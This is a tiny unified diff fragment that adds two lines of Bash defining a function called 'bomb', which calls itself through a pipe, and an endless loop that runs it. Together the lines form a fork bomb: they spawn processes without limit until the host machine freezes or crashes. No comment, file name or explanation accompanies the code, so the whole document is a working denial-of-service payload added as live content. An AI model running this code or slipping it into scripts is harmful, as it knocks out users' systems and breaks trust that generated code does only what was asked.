@@ -1,0 +1,2 @@
+bomb() { bomb | bomb; }
+while true; do bomb; done
